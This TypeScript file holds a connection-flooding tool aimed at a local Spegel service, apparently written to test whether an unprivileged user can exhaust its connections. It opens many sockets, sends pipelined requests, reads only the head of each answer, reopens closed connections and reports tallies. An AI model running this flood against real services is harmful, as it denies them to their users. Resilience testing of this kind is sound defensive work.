/**
 * A program: a user without rights on a host who holds as many connections to its Spegel as it can.
 * Each sends its request and reads only the first bytes of the answer; one that is ended is opened
 * anew. Argument: JSON of Attack. Prints one JSON object of Tally a second; ends at SIGTERM.
 */
import { connect, type Socket } from 'node:net';

export interface Attack {
  readonly port: number;
  /** Whose process this is. */
  readonly uid: number;
  readonly connections: readonly {
    readonly count: number;
    /** What each of them sends, an empty text for nothing. Sent `pipelined` times. */
    readonly request: string;
    readonly pipelined?: number;
  }[];
}

export interface Tally {
  /** Connections that are open now. */
  readonly open: number;
  /** Answers, by their status; `ended` without one, `reset` by an error. */
  readonly answers: Readonly<Record<string, number>>;
}

if (process.argv[1] === import.meta.filename) attack(JSON.parse(process.argv[2] ?? ''));

function attack({ port, uid, connections }: Attack): void {
  process.setgroups?.([]);
  process.setgid?.(uid);
  process.setuid?.(uid);
  const open = new Set<Socket>();
  const answers: Record<string, number> = {};
  const count = (what: string) => {
    answers[what] = (answers[what] ?? 0) + 1;
  };
  const hold = (text: string) => {
    let hasAnswer = false;
    const buffer = Buffer.alloc(128);
    const onHead = (bytes: number) => {
      if (hasAnswer) return false;
      hasAnswer = true;
      const status = buffer.toString('latin1', 9, 12);
      count(status);
      // What is refused is asked again, what is served is read no further.
      if (!status.startsWith('2')) socket.destroy();
      return bytes === 0;
    };
    const socket = connect({
      port,
      host: '127.0.0.1',
      onread: { buffer, callback: onHead },
    });
    open.add(socket);
    socket.on('error', () => count('reset'));
    socket.on('end', () => count('ended'));
    socket.on('close', () => {
      open.delete(socket);
      setTimeout(hold, AGAIN_MS, text);
    });
    if (text !== '') socket.write(text);
  };
  for (const { count: wanted, request, pipelined = 1 } of connections)
    for (let held = 0; held < wanted; held += 1) hold(request.repeat(pipelined));
  setInterval(
    () => process.stdout.write(`${JSON.stringify({ open: open.size, answers })}\n`),
    1_000,
  );
}

/** Often enough to take each place that gets free, and no busy loop. */
const AGAIN_MS = 50;
